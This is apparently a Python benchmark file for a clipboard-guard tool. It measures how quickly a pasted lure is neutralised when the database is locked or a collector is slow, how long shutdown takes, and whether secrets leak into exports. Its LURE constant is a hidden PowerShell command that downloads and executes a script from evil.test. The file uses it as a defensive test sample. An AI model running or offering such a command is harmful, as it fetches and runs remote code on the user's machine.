"""Protection under bad surroundings (issue 11): neutralise latency while another program holds
the database and while a collector trickles, shutdown time with a hanging collector, and the
secrets the privacy property test finds (target 0)."""

from __future__ import annotations

import sqlite3
import statistics
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

from bench.engine import engine
from bench.report import Result, met, table

RUNS = 20
LURE = 'powershell -w hidden -c "iwr https://evil.test/a.ps1 | iex"'
LATENCY_TARGET_MS = 50.0  # the harmless line is in place long before anyone can paste
SHUTDOWN_TARGET_S = 2.0
SECRET_EXAMPLES = 300


class _Clock:
    """A UI that notes when the clipboard is replaced."""

    def __init__(self) -> None:
        self.replaced_at: float | None = None

    def replace_clipboard(self, expected_digest: str, text: str) -> None:
        self.replaced_at = time.perf_counter()

    def notify(self, title: str, message: str, restore_event_id: int | None = None) -> None:
        pass

    def warn(self, warning: Any) -> None:
        pass

    def state_changed(self) -> None:
        pass


def _service(store: Any, ui: _Clock) -> Any:
    from app.detection import PasteTarget
    from app.guard.keys import PasteSequence
    from app.guard.service import GuardService, GuardSettings

    class Terminal:
        def classify(self, window: object, hint: object) -> PasteTarget:
            return PasteTarget.TERMINAL

    return GuardService(engine(), store, ui, PasteSequence(), Terminal(), lambda: None, False,
                        GuardSettings(mode="block"))  # fmt: skip


def _neutralise_ms(store: Any, n: int) -> list[float]:
    from app.guard.provenance import Provenance
    from app.guard.service import ClipboardChange

    times = []
    for i in range(n):
        ui = _Clock()
        service = _service(store, ui)
        started = time.perf_counter()
        service.clipboard_changed(
            ClipboardChange(f"{LURE} # {i}", Provenance(source_url="https://captcha.example/"))
        )
        service.process_pending()
        if ui.replaced_at is None:
            raise RuntimeError("the clipboard was not replaced")
        times.append((ui.replaced_at - started) * 1000)
    return times


def _locked(folder: Path) -> list[float]:
    from app.paths import database_path
    from app.storage import EventStore

    store = EventStore.open(folder, verify=False)  # default 1 s busy timeout
    other = sqlite3.connect(database_path(folder), timeout=0, isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")  # another program holds the database throughout
    try:
        return _neutralise_ms(store, RUNS // 4)
    finally:
        other.execute("ROLLBACK")
        other.close()
        store.close()


def _trickling(folder: Path) -> tuple[list[float], float]:
    """Neutralise latency while an HTTP collector answers a byte every two seconds, and how
    long the forwarder then takes to stop."""
    from app.config import HttpTarget
    from app.forwarding.forwarder import Forwarder
    from app.forwarding.http import HttpSink
    from app.storage import EventStore
    from tests.app.forwarding.servers import HttpCollector, Reply

    slow = HttpCollector()
    slow.default = lambda r: Reply(200, {}, trickle=2.0)
    store = EventStore.open(folder, sinks=["http:slow"], verify=False)
    forwarder = Forwarder(store, {"http:slow": HttpSink(HttpTarget(slow.url, "webhook"))})
    stop = threading.Event()
    serving = threading.Thread(target=forwarder.serve, args=(stop, 0.1))
    serving.start()
    try:
        times = _neutralise_ms(store, RUNS)
        deadline = time.monotonic() + 10
        while not slow.requests and time.monotonic() < deadline:
            time.sleep(0.02)
        started = time.perf_counter()
        stop.set()
        serving.join(timeout=30)
        return times, time.perf_counter() - started
    finally:
        stop.set()
        store.close()
        slow.close()


def _secrets_found() -> tuple[int, int]:
    """(secrets that survived, secrets generated) over SECRET_EXAMPLES flagged pastes: the
    property test's strategy, each event checked as stored and in all three exports."""
    import io

    from hypothesis import HealthCheck, given, settings

    from app.detection.indicators import defang
    from app.events import Event
    from app.forwarding.ecs import to_ecs
    from app.storage import EventFilter, EventStore
    from app.storage.export import FORMATS, write_export
    from tests.test_privacy import flagged_paste

    found = [0, 0]

    @settings(max_examples=SECRET_EXAMPLES, deadline=None, database=None,
              suppress_health_check=list(HealthCheck))  # fmt: skip
    @given(flagged_paste())
    def check(paste: tuple[str, str, list[str]]) -> None:
        from app.detection import Context

        text, url, secrets = paste
        verdict = engine().analyze(text, Context(source=url))
        event = Event.from_verdict("clipboard_flagged", verdict, text, "logged")
        with tempfile.TemporaryDirectory() as folder:
            store = EventStore.open(Path(folder), verify=False)
            store.append(event)
            outputs = []
            for fmt in FORMATS:
                out = io.StringIO()
                write_export(store, EventFilter(), fmt, out, ecs=to_ecs)
                outputs.append(out.getvalue())
            store.close()
        blob = "\n".join(outputs)
        found[1] += len(secrets)
        found[0] += sum(1 for s in secrets if s in blob or defang(s) in blob)

    check()
    return found[0], found[1]


def run() -> list[Result]:
    with tempfile.TemporaryDirectory(prefix="pasteguard-bench-resilience-") as folder:
        locked = _locked(Path(folder) / "locked")
        trickle, shutdown = _trickling(Path(folder) / "trickle")
    leaked, generated = _secrets_found()
    rows = [
        ["neutralise, database held by another program (BEGIN EXCLUSIVE)",
         f"≤ {LATENCY_TARGET_MS:.0f} ms", f"{statistics.median(locked):.1f} ms",
         f"{max(locked):.1f} ms", met(max(locked) <= LATENCY_TARGET_MS)],
        ["neutralise, an HTTP collector trickling a byte every 2 s",
         f"≤ {LATENCY_TARGET_MS:.0f} ms", f"{statistics.median(trickle):.1f} ms",
         f"{max(trickle):.1f} ms", met(max(trickle) <= LATENCY_TARGET_MS)],
        ["forwarding stops, a request to that collector in flight",
         f"≤ {SHUTDOWN_TARGET_S:.0f} s", f"{shutdown * 1000:.0f} ms", f"{shutdown * 1000:.0f} ms",
         met(shutdown <= SHUTDOWN_TARGET_S)],
        ["secrets left after the privacy property test", "0",
         f"{leaked} of {generated}", "", met(leaked == 0)],
    ]  # fmt: skip
    notes = [
        "Neutralise: from the clipboard change reaching the guard's worker to the harmless line "
        "being handed to the clipboard (GuardService with the real engine and event store); "
        "it includes the analysis. Before issue 11 the event was written first, so a held "
        "database added up to its 1 s busy timeout. "
        f"Locked: {len(locked)} changes while another connection held BEGIN EXCLUSIVE (each "
        f"event then waits in memory); trickling: {len(trickle)} changes while the forwarder "
        "served a collector answering one byte every 2 s.",
        "Stop: Forwarder.serve returning after stop was set while the trickling collector held "
        "a request (tests/ui/test_guard_robustness.py checks SIGTERM-to-exit of the whole guard "
        "under 2 s the same way).",
        f"Secrets: {SECRET_EXAMPLES} flagged pastes from tests/test_privacy.py's strategy "
        "(credentials in the issue's forms inside lures, a token in the page URL), each event "
        "stored and exported as JSON Lines, CSV and ECS, searched for every generated secret "
        "and its defanged form. The test itself also checks the database file, the log and a "
        "real rsyslog.",
    ]
    headers = ["what", "target", "median", "worst", "met?"]
    return [Result("Protection under bad surroundings", table(headers, rows, "llrrc"), notes)]
